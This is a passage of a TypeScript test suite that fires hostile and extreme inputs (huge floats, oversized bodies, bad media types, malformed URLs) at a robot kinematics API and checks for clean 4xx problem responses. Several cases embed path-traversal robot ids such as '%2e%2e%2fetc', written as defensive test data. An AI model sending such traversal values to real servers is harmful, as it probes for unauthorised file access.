  { name: 'JSON: randomSeed -1', request: post('/robots/ur5e/ik/solve', { target: TARGET, randomSeed: -1 }), status: 400, detail: ['randomSeed must be >= 0'] },
  { name: 'JSON: maxStep 0', request: post('/robots/ur5e/ik/step', { q: Q, target: TARGET, maxStep: 0 }), status: 400, detail: ['maxStep must be > 0'] },
  { name: 'JSON: ik/solve/batch over IK_BATCH_MAX_WORK_MS', request: post('/robots/ur5e/ik/solve/batch', { targets: new Array(100).fill(TARGET), timeoutMs: 1000 }), status: 400, detail: ['100000 ms', 'at most 20000 ms', 'fewer targets or a smaller timeoutMs'] },
  { name: 'JSON: seeds and targets of different lengths', request: post('/robots/ur5e/ik/solve/batch', { targets: [TARGET, TARGET], seeds: [Q] }), status: 400, detail: ['seeds has 1 entries but targets has 2'] },
  { name: 'JSON: 1000000 seeds for one target', request: post('/robots/ur5e/ik/solve/batch', `{"targets":[${JSON.stringify(TARGET)}],"seeds":[${new Array(1_000_000).fill('[]').join(',')}]}`), status: 400, detail: ['seeds must have at most 10000 items'] },
  { name: 'JSON: both seed and seeds', request: post('/robots/ur5e/ik/solve/batch', { targets: [TARGET], seed: Q, seeds: [Q] }), status: 400, detail: ['either "seed"', 'not both'] },
  { name: 'JSON: ik/velocity thresholds out of order', request: post('/robots/ur5e/ik/velocity', { q: Q, twist: TWIST, lowerSingularityThreshold: 40, hardStopSingularityThreshold: 30 }), status: 400, detail: ['lowerSingularityThreshold (40) must be below hardStopSingularityThreshold (30)'] },
  { name: 'JSON: ik/velocity threshold default order broken by one value', request: post('/robots/ur5e/ik/velocity', { q: Q, twist: TWIST, lowerSingularityThreshold: 30 }), status: 400, detail: ['must be below hardStopSingularityThreshold (30)'] },
  { name: 'JSON: ik/velocity dt 0', request: post('/robots/ur5e/ik/velocity', { q: Q, twist: TWIST, dt: 0 }), status: 400, detail: ['dt must be > 0'] },
  {
    name: 'JSON: velocity with qdot 1e308 (the twist would overflow)', request: post('/robots/ur5e/velocity', { q: Q, qdot: new Array(6).fill(1e308) }), status: 400, detail: ['qdot[0] must be <= 1e9'],
  },
  { name: 'JSON: fk with q beyond 1e9', request: post('/robots/ur5e/fk', { q: [0, 0, 0, 0, 0, -2e9] }), status: 400, detail: ['q[5] must be >= -1e9'] },
  { name: 'JSON: fk with q by name beyond 1e9', request: post('/robots/ur5e/fk', { q: { ...Object.fromEntries(UR5E_JOINTS.map((j) => [j, 0])), elbow_joint: 1e10 } }), status: 400, detail: ['q.elbow_joint must be <= 1e9'] },
  { name: 'JSON: jacobian with tipOffset 1e200', request: post('/robots/ur5e/jacobian', { q: Q, tipOffset: [1e200, 0, 0], analysis: true }), status: 400, detail: ['tipOffset[0] must be <= 1e9'] },
  { name: 'JSON: ik/step toward a target at 1e200', request: post('/robots/ur5e/ik/step', { q: Q, target: { position: [1e200, 0, 0], quaternion: [0, 0, 0, 1] } }), status: 400, detail: ['target.position[0] must be <= 1e9'] },
  { name: 'JSON: ik/step with task weight 1e200', request: post('/robots/ur5e/ik/step', { q: Q, target: TARGET, weights: [1e200, 1, 1, 1, 1, 1] }), status: 400, detail: ['weights[0] must be <= 1e9'] },
  { name: 'JSON: ik/step with subnormal jointWeights', request: post('/robots/ur5e/ik/step', { q: Q, target: TARGET, jointWeights: new Array(6).fill(1e-320) }), status: 400, detail: ['jointWeights[0] must be >= 1e-9'] },
  { name: 'JSON: ik/step with damping 1e308', request: post('/robots/ur5e/ik/step', { q: Q, target: TARGET, damping: 1e308 }), status: 400, detail: ['damping must be <= 1e9'] },
  { name: 'JSON: ik/velocity with a twist of 1e308', request: post('/robots/ur5e/ik/velocity', { q: Q, twist: { linear: [1e308, 0, 0], angular: [0, 0, 0] } }), status: 400, detail: ['twist.linear[0] must be <= 1e9'] },
  { name: 'JSON: statics with a force of 1e308', request: post('/robots/ur5e/statics', { q: Q, wrench: { force: [0, 1e308, 0], torque: [0, 0, 0] } }), status: 400, detail: ['wrench.force[1] must be <= 1e9'] },
  { name: 'JSON: ik/solve with a seed beyond 1e9', request: post('/robots/ur5e/ik/solve', { target: TARGET, seed: [0, 0, 0, 0, 0, 1e300] }), status: 400, detail: ['seed[5] must be <= 1e9'] },
  {
    name: 'XML: URDF whose origins would overflow (1e308 + 1e308)', request: xml(arm('overflow', { o1: '1e308 0 0', o2: '1e308 0 0' })),
    status: 422, detail: ['joint "shoulder"', 'origin xyz "1e+308 0 0"', 'within ±1e9 m'],
  },
  {
    name: 'XML: URDF with a prismatic limit of 1e12', request: xml(robot('far', links('a', 'b') + joint('slide', 'prismatic', 'a', 'b', '<axis xyz="1 0 0"/><limit lower="0" upper="1e12" effort="1" velocity="1"/>'))),
    status: 422, detail: ['joint "slide"', 'limit upper 1000000000000', 'within ±1e9'],
  },
  // sizes
  { name: 'JSON: a 1.1 MB fk body over BODY_LIMIT', request: post('/robots/ur5e/fk', { q: Q, links: new Array(1000).fill('x'.repeat(1100)) }), status: 413, detail: ['BODY_LIMIT'] },
  { name: 'JSON: a batch body over BATCH_BODY_LIMIT (8192)', app: 'smallBody', request: post('/robots/ur5e/fk/batch', { qs: [Q], links: new Array(40).fill('l'.repeat(250)) }), status: 413, detail: ['BATCH_BODY_LIMIT'] },
  { name: 'JSON: a single-route body over BODY_LIMIT (4096)', app: 'smallBody', request: post('/robots/ur5e/jacobian', { q: Q, tip: 't'.repeat(5000) }), status: 413, detail: ['BODY_LIMIT'] },
  { name: 'JSON: a tip of 900000 characters', request: post('/robots/ur5e/jacobian', { q: Q, tip: 'x'.repeat(900_000) }), status: 400, detail: ['tip must NOT have more than 256 characters'] },
  // media types and headers
  { name: 'JSON: text/plain to fk', request: post('/robots/ur5e/fk', { q: Q }, { 'content-type': 'text/plain' }), status: 415, detail: ['application/json'] },
  { name: 'JSON: no content type', request: { method: 'POST', url: '/robots/ur5e/jacobian', payload: JSON.stringify({ q: Q }) }, status: 415, detail: ['application/json'] },
  { name: 'JSON: form-encoded body', request: post('/robots/ur5e/ik/step', 'q=1', { 'content-type': 'application/x-www-form-urlencoded' }), status: 415, detail: ['application/json'] },
  { name: 'JSON: Content-Length that does not match the body', request: post('/robots/ur5e/fk', { q: Q }, { 'content-length': '5' }), status: 400, detail: ['Content-Length'] },
  // paths and DELETE
  { name: 'JSON: robot id %2e%2e%2fetc in the path', request: post('/robots/%2e%2e%2fetc/fk', { q: Q }), status: 400, detail: ['params.id'] },
  { name: 'JSON: unicode robot id in the path', request: post(`/robots/${encodeURIComponent('ロボット')}/jacobian`, { q: Q }), status: 400, detail: ['params.id'] },
  { name: 'JSON: robot id of 65 characters in the path', request: post(`/robots/${'a'.repeat(65)}/fk`, { q: Q }), status: 400, detail: ['params.id'] },
  {
    name: 'JSON: robot id of 300 characters in the path', request: post(`/robots/${'a'.repeat(300)}/fk`, { q: Q }), status: 400, detail: ['id'],
  },
  {
    name: 'JSON: malformed percent-encoding in the path', request: post('/robots/%E0%A4%A/fk', { q: Q }), status: 400, detail: [/url/i],
  },
  { name: 'JSON: DELETE of a builtin robot', request: { method: 'DELETE', url: '/robots/ur5e' }, status: 409, detail: ['builtin', 'cannot be deleted'] },
  { name: 'JSON: DELETE of an unknown robot', request: { method: 'DELETE', url: '/robots/nothing_here' }, status: 404, detail: ['no robot "nothing_here"'] },
  { name: 'JSON: DELETE of %2e%2e%2fetc', request: { method: 'DELETE', url: '/robots/%2e%2e%2fetc' }, status: 400, detail: ['params.id'] },
  {
    name: 'JSON: DELETE of a builtin robot with Content-Type: application/json and no body',
    request: { method: 'DELETE', url: '/robots/ur5e', headers: JSON_TYPE }, status: 409, detail: ['builtin'],
  },
  {
    name: 'JSON: DELETE with a robot id of 200 characters', request: { method: 'DELETE', url: `/robots/${'b'.repeat(200)}` }, status: 400, detail: ['id'],
  },
];

const CASES: HostileCase[] = [...XML_CASES, ...JSON_CASES];

// ---------------------------------------------------------------------------------------------
// finite numbers near the limits of double precision: refused or answered, never a 5xx

interface ExtremeCase {
  name: string;
  /** Requests made first (uploads), each of which must not be a 5xx either. */
  before?: HostileRequest[];
  request: HostileRequest;
}

const BIG = 1e308;
const EXTREME_CASES: ExtremeCase[] = [
  { name: 'fk with q = 1e308', request: post('/robots/ur5e/fk', { q: new Array(6).fill(BIG) }) },
  { name: 'fk/batch with q = 1e308', request: post('/robots/ur5e/fk/batch', { qs: [new Array(6).fill(BIG)] }) },
  { name: 'jacobian with tipOffset 1e308 and no analysis', request: post('/robots/ur5e/jacobian', { q: Q, tipOffset: [BIG, BIG, BIG] }) },
  { name: 'jacobian/batch with tipOffset 1e308 and poses', request: post('/robots/ur5e/jacobian/batch', { qs: [Q], tipOffset: [BIG, BIG, BIG], includePose: true }) },
  {
    name: 'jacobian with tipOffset 1e200 and analysis', request: post('/robots/ur5e/jacobian', { q: Q, tipOffset: [1e200, 1e200, 1e200], analysis: true }),
  },
  {
    name: 'jacobian with tipOffset 1e308 and analysis', request: post('/robots/ur5e/jacobian', { q: Q, tipOffset: [BIG, BIG, BIG], analysis: true }),
  },
  {
    name: 'velocity with tipOffset 1e308', request: post('/robots/ur5e/velocity', { q: Q, qdot: [1, 1, 1, 1, 1, 1], tipOffset: [BIG, BIG, 0] }),
  },
  { name: 'statics with a wrench of 1.7e308', request: post('/robots/ur5e/statics', { q: Q, wrench: { force: [1.7e308, -1.7e308, 1.7e308], torque: [1.7e308, 1.7e308, 1.7e308] } }) },
  {
    name: 'statics with force and tipOffset 1e308', request: post('/robots/ur5e/statics', { q: Q, wrench: { force: [BIG, BIG, BIG], torque: [0, 0, 0] }, tipOffset: [BIG, 0, 0] }),
  },
  {
    name: 'ik/step toward a target at 1e308', request: post('/robots/ur5e/ik/step', { q: Q, target: { position: [BIG, BIG, BIG], quaternion: [0, 0, 0, 1] } }),
  },
  {
    name: 'ik/step toward a target at 1e200', request: post('/robots/ur5e/ik/step', { q: Q, target: { position: [1e200, 0, 0], quaternion: [0, 0, 0, 1] } }),
  },
  {
    name: 'ik/step with weights 1e308', request: post('/robots/ur5e/ik/step', { q: Q, target: TARGET, weights: new Array(6).fill(BIG) }),
  },
  {
    name: 'ik/step with one weight 1e200', request: post('/robots/ur5e/ik/step', { q: Q, target: TARGET, weights: [1e200, 1, 1, 1, 1, 1] }),
  },
  {
    name: 'ik/step with subnormal jointWeights (1e-320)', request: post('/robots/ur5e/ik/step', { q: Q, target: TARGET, jointWeights: new Array(6).fill(1e-320) }),
  },
  {
    name: 'ik/step with tipOffset 1e308', request: post('/robots/ur5e/ik/step', { q: Q, target: TARGET, tipOffset: [BIG, 0, 0] }),
  },
  { name: 'ik/step from q = 1e308', request: post('/robots/ur5e/ik/step', { q: new Array(6).fill(BIG), target: TARGET }) },
  {
    name: 'ik/step with damping 1e308', request: post('/robots/ur5e/ik/step', { q: Q, target: TARGET, damping: BIG }),
  },
  { name: 'ik/step with maxStep 5e-324', request: post('/robots/ur5e/ik/step', { q: Q, target: TARGET, maxStep: 5e-324 }) },
  {
    name: 'ik/velocity with a twist of 1e308', request: post('/robots/ur5e/ik/velocity', { q: Q, twist: { linear: [BIG, BIG, BIG], angular: [0, 0, 0] } }),
  },
  { name: 'ik/velocity from q = 1e308', request: post('/robots/kinova_gen3/ik/velocity', { q: new Array(7).fill(BIG), twist: TWIST }) },
  { name: 'ik/velocity with dt 5e-324', request: post('/robots/ur5e/ik/velocity', { q: Q, twist: TWIST, dt: 5e-324 }) },
  {
    name: 'ik/solve toward a target at 1e200', request: post('/robots/ur5e/ik/solve', { target: { position: [1e200, 0, 0], quaternion: [0, 0, 0, 1] } }),
  },
  {
    name: 'ik/solve with tipOffset 1e308', request: post('/robots/ur5e/ik/solve', { target: TARGET, tipOffset: [BIG, 0, 0] }),
  },
  {
    name: 'ik/solve/batch toward a target at 1e308', request: post('/robots/ur5e/ik/solve/batch', { targets: [{ position: [BIG, BIG, BIG], quaternion: [0, 0, 0, 1] }] }),
  },
  { name: 'ik/solve from seed 1e308 (continuous joints)', request: post('/robots/kinova_gen3/ik/solve', { target: TARGET, seed: new Array(7).fill(BIG) }) },
  { name: 'ik/solve with tolerance 1e308', request: post('/robots/ur5e/ik/solve', { target: TARGET, tolerance: { position: BIG, orientation: BIG } }) },
  {
    name: 'binary jacobian/batch of a robot with unicode joint names',
    before: [xml(arm('unicode_joints', { j1: '関節1', j2: '関節2' }))],
    request: post('/robots/unicode_joints/jacobian/batch', { qs: [[0, 0]] }, { accept: 'application/octet-stream' }),
  },
  {
    name: 'binary jacobian/batch of a robot with a newline in a joint name (&#10;)',
    before: [xml(arm('newline_joint', { j1: 'a&#10;b' }))],
    request: post('/robots/newline_joint/jacobian/batch', { qs: [[0, 0]] }, { accept: 'application/octet-stream' }),
  },
];

// ---------------------------------------------------------------------------------------------
// checks

interface Answer { status: number; headers: Record<string, unknown>; raw: Buffer; body: unknown; ms: number }

async function send(t: TestApp, request: HostileRequest): Promise<Answer> {
  const start = performance.now();
  const response = await t.app.inject({
    method: request.method, url: request.url, headers: request.headers ?? {},
    ...(request.payload !== undefined ? { payload: request.payload } : {}),
  });
  const ms = performance.now() - start;
  const raw = response.rawPayload;
  let body: unknown;
  try { body = raw.length > 0 ? JSON.parse(raw.toString('utf8')) : undefined; } catch { body = undefined; }
  return { status: response.statusCode, headers: response.headers, raw, body, ms };
}

function describeAnswer(a: Answer): string {
  return `${a.status} ${String(a.headers['content-type'])} ${a.raw.toString('utf8').slice(0, 400)}`;
}

/** Asserts an RFC 9457 problem of `status` and returns its detail. */
function expectProblemAnswer(a: Answer, status: number): string {
  expect(a.status, describeAnswer(a)).toBe(status);
  expect(String(a.headers['content-type']), describeAnswer(a)).toMatch(/^application\/problem\+json/);
  const p = a.body as { type?: unknown; title?: unknown; status?: unknown; detail?: unknown; errors?: unknown };
  expect(p, describeAnswer(a)).toBeTypeOf('object');
  expect(typeof p.type, 'type').toBe('string');
  expect(typeof p.title, 'title').toBe('string');
  expect(p.status, 'status field').toBe(a.status);
  expect(typeof p.detail, 'detail').toBe('string');
  expect((p.detail as string).trim().length, 'detail is empty').toBeGreaterThan(0);
  if (p.errors !== undefined) {
    expect(Array.isArray(p.errors), 'errors').toBe(true);
    for (const e of p.errors as { path: unknown; message: unknown }[]) {
      expect(typeof e.path).toBe('string');
      expect(typeof e.message).toBe('string');
    }
  }
  return p.detail as string;
}

/** Paths of every null (or non-number where JSON cannot hold one) in a parsed JSON value. */
function nonFinitePaths(value: unknown, path = '$', out: string[] = []): string[] {
  if (value === null) out.push(path);
  else if (typeof value === 'number' && !Number.isFinite(value)) out.push(path);
  else if (Array.isArray(value)) value.forEach((v, i) => nonFinitePaths(v, `${path}[${i}]`, out));
  else if (typeof value === 'object') for (const [k, v] of Object.entries(value)) nonFinitePaths(v, `${path}.${k}`, out);
  return out;
}

const MAX_CASE_MS = 2000;
const MAX_HEAP_GROWTH = 100 * 1024 * 1024;

/**
 * A full collection, so that the heap measured is what is retained, not garbage not yet
 * collected. The test worker runs without --expose-gc (worker threads of the batch pool refuse
 * that flag), so gc is exposed in a fresh context for this call.
 */
setFlagsFromString('--expose-gc');
const collectGarbage = runInNewContext('gc') as () => void;

function heapUsed(): number {
  collectGarbage();
  return process.memoryUsage().heapUsed;
}

// ---------------------------------------------------------------------------------------------

interface StoreUnderTest {
  name: string;
  /** Overrides that put an app's uploads in this store (one database per app, as one folder per app). */
  overrides(app: AppName): Promise<Partial<AppConfig>>;
}

const STORES: StoreUnderTest[] = [
  { name: 'the file store', overrides: async () => ({}) },
  ...(cluster ? [{ name: 'the PostgreSQL store', overrides: async (app: AppName) => ({ databaseUrl: await cluster.createDatabase(`hostile_${app.toLowerCase()}`) }) }] : []),
];

describe.each(STORES)('hostile inputs, uploads in $name', (store) => {
  const apps = {} as Record<AppName, TestApp>;
  const durations = new Map<string, number>();
  let heapBefore = 0;

  beforeAll(async () => {
    apps.default = await createTestApp(await store.overrides('default'));
    apps.smallUrdf = await createTestApp({ ...SMALL_URDF, ...await store.overrides('smallUrdf') });
    apps.smallBody = await createTestApp({ ...SMALL_BODY, ...await store.overrides('smallBody') });
    heapBefore = heapUsed();
  });
  afterAll(async () => {
    for (const t of Object.values(apps)) await t?.close();
  });

  it('has at least 60 cases with unique names', () => {
    expect(CASES.length).toBeGreaterThanOrEqual(60);
    expect(new Set(CASES.map((c) => c.name)).size).toBe(CASES.length);
    expect(new Set(EXTREME_CASES.map((c) => c.name)).size).toBe(EXTREME_CASES.length);
  });

  describe('answers each with a problem that says what to change', () => {
    for (const c of CASES) {
      it(c.name, async () => {
        const t = apps[c.app ?? 'default'];
        const answer = await send(t, c.request);
        durations.set(c.name, answer.ms);
        const detail = expectProblemAnswer(answer, c.status);
        for (const fragment of c.detail) {
          if (typeof fragment === 'string') expect(detail, 'detail').toContain(fragment);
          else expect(detail, 'detail').toMatch(fragment);
        }
        for (const fragment of c.notInDetail ?? []) expect(detail).not.toContain(fragment);
        expect(answer.ms, 'milliseconds taken').toBeLessThan(MAX_CASE_MS);
        const health = await t.app.inject({ method: 'GET', url: '/healthz' });
        expect(health.statusCode, 'GET /healthz afterwards').toBe(200);
      });
    }
  });

  describe('refuses or answers extreme finite numbers, never with a 5xx or a null', () => {
    for (const c of EXTREME_CASES) {
      it(c.name, async () => {
        const t = apps.default;
        for (const request of c.before ?? []) {
          const before = await send(t, request);
          expect(before.status, `preparing: ${describeAnswer(before)}`).toBeLessThan(500);
        }
        const answer = await send(t, c.request);
        durations.set(`extreme: ${c.name}`, answer.ms);
        expect(answer.status, describeAnswer(answer)).toBeLessThan(500);
        if (answer.status >= 400) {
          expectProblemAnswer(answer, answer.status);
        } else if (String(answer.headers['content-type']).startsWith('application/octet-stream')) {
          expect(answer.raw.length % 8).toBe(0);
          const values = new Float64Array(answer.raw.buffer.slice(answer.raw.byteOffset, answer.raw.byteOffset + answer.raw.length));
          expect(values.every(Number.isFinite), 'binary values are finite').toBe(true);
        } else {
          expect(String(answer.headers['content-type'])).toMatch(/^application\/json/);
          expect(nonFinitePaths(answer.body), `nulls or non-finite numbers in ${describeAnswer(answer)}`).toEqual([]);
        }
        expect(answer.ms, 'milliseconds taken').toBeLessThan(MAX_CASE_MS);
        const health = await t.app.inject({ method: 'GET', url: '/healthz' });
        expect(health.statusCode, 'GET /healthz afterwards').toBe(200);
      });
    }
  });

  it('took at most 2 s per case and grew the heap by less than 100 MB', () => {
    const slow = [...durations].filter(([, ms]) => ms >= MAX_CASE_MS).map(([name, ms]) => `${name}: ${ms.toFixed(0)} ms`);
    expect(slow).toEqual([]);
    const growth = heapUsed() - heapBefore;
    expect(growth, `heap grew by ${(growth / 1024 / 1024).toFixed(1)} MB`).toBeLessThan(MAX_HEAP_GROWTH);
  });
});
